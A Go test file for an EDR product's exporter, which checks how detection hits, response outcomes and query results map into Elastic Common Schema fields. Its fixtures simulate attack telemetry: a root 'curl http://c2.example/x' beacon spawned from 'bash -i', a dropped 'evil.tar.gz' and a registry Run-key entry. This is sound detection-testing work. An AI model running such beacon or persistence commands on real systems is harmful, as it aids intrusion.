package export_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aiedr/edr/fleetsrv/export"
	"github.com/aiedr/edr/fleetsrv/store"
	"github.com/aiedr/edr/wire"
)

var (
	when    = time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	details = wire.HostDetails{Hostname: "web-1", OS: "Debian GNU/Linux 12", Platform: "linux", Arch: "amd64", Kernel: "6.1", AgentVersion: "1.2"}
)

func fieldsOf(pairs ...any) []wire.Field {
	var out []wire.Field
	for i := 0; i < len(pairs); i += 2 {
		out = append(out, wire.Field{Name: pairs[i].(string), Value: wire.ValueOf(pairs[i+1])})
	}
	return out
}

func documentOf(id string, d store.ExportDocument) store.ExportDocument {
	d.ID, d.Host, d.Details, d.Received = id, "h1", details, when.Add(time.Second)
	return d
}

func hitOfSocket() store.ExportDocument {
	return documentOf("socket", store.ExportDocument{Kind: wire.KindHit, Hit: &wire.Hit{
		ID: "hit1", Rule: wire.RuleRef{ID: "r7", Name: "beacon", Version: "v1", Pack: "ours"}, Severity: wire.High, Title: "A beacon", Description: "calls home",
		Attack: []string{"T1071.001", "attack.t1071", "TA0011", "CVE-2026-1"}, Time: when, Entity: "e", Count: 2, Table: "socket_events",
		Event: fieldsOf("action", "connect", "family", int64(2), "protocol", int64(6), "local_address", "10.0.0.5", "local_port", int64(40000),
			"remote_address", "198.51.100.7", "remote_port", int64(443), "pid", int64(7)),
		Process: &wire.Process{PID: 7, StartTime: 99, Parent: 3, Name: "curl", Path: "/usr/bin/curl", Cmdline: "curl http://c2.example/x", UID: 0, User: "root",
			Container: "c0ffee", Started: when.Add(-time.Minute)},
		Ancestry: []wire.Process{{PID: 3, StartTime: 50, Name: "bash", Path: "/bin/bash", Cmdline: "bash -i", UID: 0}, {PID: 1, Name: "init", UID: -1}},
		Actions:  []wire.ActionState{{Action: "block_connection", State: "done", Detail: "blocked"}},
	}})
}

func hitOfFile() store.ExportDocument {
	return documentOf("file", store.ExportDocument{Kind: wire.KindHit, Hit: &wire.Hit{
		ID: "hit2", Rule: wire.RuleRef{ID: "r8", Name: "dropped"}, Severity: wire.Critical, Title: "A file", Time: when, Count: 1, Table: "file_events",
		Event: fieldsOf("action", "CREATED", "target_path", "/tmp/.x/evil.tar.gz", "sha256", "abcd", "size", int64(12), "inode", int64(99), "pid", int64(8),
			"process_name", "sh", "process_path", "/bin/sh", "process_cmdline", "sh -c x"),
	}})
}

func rowOf(value any) store.ExportDocument {
	return documentOf(fmt.Sprintf("row %v", value), store.ExportDocument{Kind: wire.KindResult, Row: &store.ExportRow{
		Query: "pack_ir_things", Pack: "ir", Time: when, Epoch: 3, Counter: 4, Action: "added", Columns: []string{"value", "value", "nothing", "path"},
		Values: wire.Row{wire.ValueOf(value), wire.ValueOf(int64(5)), wire.ValueOf(nil), wire.ValueOf("/opt/thing")}}})
}

// at reads a value of a document by its dotted name; "" where it is absent.
func at(t *testing.T, body json.RawMessage, name string) string {
	t.Helper()
	for _, part := range strings.Split(name, ".") {
		var o map[string]json.RawMessage
		if err := json.Unmarshal(body, &o); err != nil {
			t.Fatalf("%s: %v in %s", name, err, body)
		}
		var ok bool
		if body, ok = o[part]; !ok {
			return ""
		}
	}
	return string(body)
}

func TestECS(t *testing.T) {
	bad := hitOfSocket()
	bad.Hit.Time = time.Date(-5, 1, 1, 0, 0, 0, 0, time.UTC)
	bad.Hit.Event = fieldsOf("action", "accept", "local_address", "10.0.0.5", "local_port", "70000", "remote_address", "not.an.address", "remote_port", "22")
	bad.Hit.Attack, bad.Hit.Process, bad.Hit.Severity = nil, nil, "odd"
	outcome := documentOf("o", store.ExportDocument{Kind: wire.KindOutcome, Outcome: &wire.Outcome{ID: "r1", Action: "terminate_process", Time: when, State: "failed",
		Error: "gone", Hit: "hit1"}})
	registry := documentOf("reg", store.ExportDocument{Kind: wire.KindHit, Hit: &wire.Hit{ID: "h3", Time: when, Table: "registry_events",
		Event: fieldsOf("action", "deleted", "key", `HKEY_LOCAL_MACHINE\SOFTWARE\Run`, "value", "x", "data_type", "REG_SZ", "data", "calc.exe")}})
	exec := documentOf("exec", store.ExportDocument{Kind: wire.KindHit, Hit: &wire.Hit{ID: "h4", Time: when, Table: "process_events",
		Event: fieldsOf("pid", int64(5), "path", "/bin/ls", "name", "ls", "cmdline", "ls -l", "parent", int64(4), "uid", int64(1000))}})
	long := rowOf(strings.Repeat("é", 10_000))
	snapshot := rowOf("x")
	snapshot.Row.Action = "snapshot"
	snapshot.Row.Columns = append(snapshot.Row.Columns, "remote_address", "remote_port")
	snapshot.Row.Values = append(snapshot.Row.Values, wire.ValueOf("2001:db8::1"), wire.ValueOf("53"))

	for _, c := range []struct {
		name string
		doc  store.ExportDocument
		want map[string]string // absent where ""
	}{
		{"a connection", hitOfSocket(), map[string]string{
			"@timestamp": `"2026-05-01T12:00:00Z"`, "event.ingested": `"2026-05-01T12:00:01Z"`, "event.id": `"socket"`, "event.kind": `"alert"`,
			"event.category": `["network"]`, "event.type": `["connection"]`, "event.action": `"connect"`, "event.severity": "73", "event.dataset": `"edr.hit"`,
			"message": `"A beacon"`, "ecs.version": `"8.11.0"`, "host.id": `"h1"`, "host.name": `"web-1"`, "host.os.type": `"linux"`, "host.architecture": `"amd64"`,
			"agent.version": `"1.2"`, "rule.id": `"r7"`, "rule.name": `"beacon"`, "rule.ruleset": `"ours"`, "rule.description": `"calls home"`,
			"threat.framework": `"MITRE ATT\u0026CK"`, "threat.technique.id": `["T1071"]`, "threat.technique.subtechnique.id": `["T1071.001"]`, "threat.tactic.id": `["TA0011"]`,
			"edr.attack": `["CVE-2026-1"]`, "source.ip": `"10.0.0.5"`, "source.port": "40000", "destination.ip": `"198.51.100.7"`, "destination.port": "443",
			"network.transport": `"tcp"`, "network.type": `"ipv4"`, "network.direction": `"egress"`, "process.pid": "7", "process.executable": `"/usr/bin/curl"`,
			"process.command_line": `"curl http://c2.example/x"`, "process.entity_id": `"h1-7-99"`, "process.start": `"2026-05-01T11:59:00Z"`, "process.user.id": `"0"`,
			"process.parent.name": `"bash"`, "process.parent.pid": "3", "user.name": `"root"`, "container.id": `"c0ffee"`, "related.ip": `["10.0.0.5","198.51.100.7"]`,
			"edr.ancestry": `["bash -i","init"]`, "edr.count": "2", "edr.columns.remote_port": `"443"`, "file": ""}},
		{"a file", hitOfFile(), map[string]string{
			"event.category": `["file"]`, "event.type": `["creation"]`, "file.path": `"/tmp/.x/evil.tar.gz"`, "file.name": `"evil.tar.gz"`, "file.directory": `"/tmp/.x"`,
			"file.extension": `"gz"`, "file.size": "12", "file.inode": `"99"`, "file.hash.sha256": `"abcd"`, "related.hash": `["abcd"]`, "process.pid": "8",
			"process.command_line": `"sh -c x"`, "event.severity": "99", "threat": "", "source": ""}},
		{"what a host may not say", bad, map[string]string{
			"@timestamp": `"2026-05-01T12:00:01Z"`, "source.address": `"not.an.address"`, "source.ip": "", "source.port": "22", "destination.port": "",
			"destination.ip": `"10.0.0.5"`, "network.direction": `"ingress"`, "event.severity": "", "threat": "", "process": ""}},
		{"an outcome", outcome, map[string]string{
			"event.kind": `"event"`, "event.outcome": `"failure"`, "event.action": `"terminate_process"`, "event.reason": `"gone"`, "edr.hit_id": `"hit1"`, "edr.response": `"r1"`}},
		{"a registry value", registry, map[string]string{
			"event.category": `["registry"]`, "event.type": `["deletion"]`, "registry.hive": `"HKEY_LOCAL_MACHINE"`, "registry.path": `"HKEY_LOCAL_MACHINE\\SOFTWARE\\Run\\x"`,
			"registry.data.strings": `["calc.exe"]`, "registry.data.type": `"REG_SZ"`}},
		{"an exec without its process", exec, map[string]string{
			"event.category": `["process"]`, "event.type": `["start"]`, "event.action": `"exec"`, "process.name": `"ls"`, "process.parent.pid": "4", "process.user.id": `"1000"`}},
		{"a row", rowOf(int64(1)), map[string]string{
			"event.kind": `"event"`, "event.dataset": `"edr.result"`, "event.action": `"added"`, "edr.query": `"pack_ir_things"`, "edr.columns.value": `"1"`,
			"edr.columns.value_2": `"5"`, "edr.columns.nothing": "", "edr.columns.path": `"/opt/thing"`, "file": "", "process": "", "rule": "", "edr.clipped": ""}},
		{"a long value", long, map[string]string{"edr.clipped": "1", "edr.columns.value": `"` + strings.Repeat("é", 4096) + `…"`}},
		{"a snapshot with an address", snapshot, map[string]string{"event.kind": `"state"`, "destination.ip": `"2001:db8::1"`, "destination.port": "53", "source": ""}},
	} {
		body := export.ECSDocuments(t, c.doc)[0].Body
		for name, want := range c.want {
			if have := at(t, body, name); have != want {
				t.Errorf("%s: %s is %.200s, want %s", c.name, name, have, want)
			}
		}
	}
}

func TestRecord(t *testing.T) {
	row := rowOf(int64(1) << 60)
	row.Row.Values = append(row.Row.Values, wire.ValueOf([]byte{1, 2}))
	d := export.EDRDocuments(t, row)[0]
	if d.ID != row.ID || d.Host != "h1" || d.Kind != wire.KindResult {
		t.Errorf("document %+v", d)
	}
	for name, want := range map[string]string{
		"result.columns": `{"value":1152921504606846976,"value_2":5,"nothing":null,"path":"/opt/thing","column_5":{"base64":"AQI="}}`,
		"time":           `"2026-05-01T12:00:00Z"`, "received": `"2026-05-01T12:00:01Z"`, "host.hostname": `"web-1"`, "kind": `"result"`, "hit": "",
	} {
		if have := at(t, d.Body, name); have != want {
			t.Errorf("%s is %s, want %s", name, have, want)
		}
	}
}

// FuzzECS: whatever a host names its columns and writes in them, the document
// is JSON with every column in it once.
func FuzzECS(f *testing.F) {
	f.Add("path", "/bin/sh", "pid", "7")
	f.Add("a.b", "\xff\xfe", "a_b", strings.Repeat("x", 9000))
	f.Add("", "", "", "")
	f.Add("remote_address", "::1%eth0", "remote_port", "99999999999999999999")
	f.Fuzz(func(t *testing.T, n1, v1, n2, v2 string) {
		d := documentOf("id", store.ExportDocument{Kind: wire.KindResult, Row: &store.ExportRow{Columns: []string{n1, n2},
			Values: wire.Row{wire.ValueOf(v1), wire.ValueOf(v2)}}})
		hit := documentOf("id", store.ExportDocument{Kind: wire.KindHit, Hit: &wire.Hit{Table: "file_events", Event: fieldsOf(n1, v1, n2, v2), Attack: []string{v1}}})
		for _, doc := range append(export.ECSDocuments(t, d, hit), export.EDRDocuments(t, d, hit)...) {
			if !json.Valid(doc.Body) {
				t.Fatalf("no JSON: %q", doc.Body)
			}
		}
		var e struct {
			EDR struct{ Columns map[string]string }
		}
		if err := json.Unmarshal(export.ECSDocuments(t, d)[0].Body, &e); err != nil {
			t.Fatal(err)
		}
		if len(e.EDR.Columns) != 2 {
			t.Fatalf("columns %q", e.EDR.Columns)
		}
	})
}
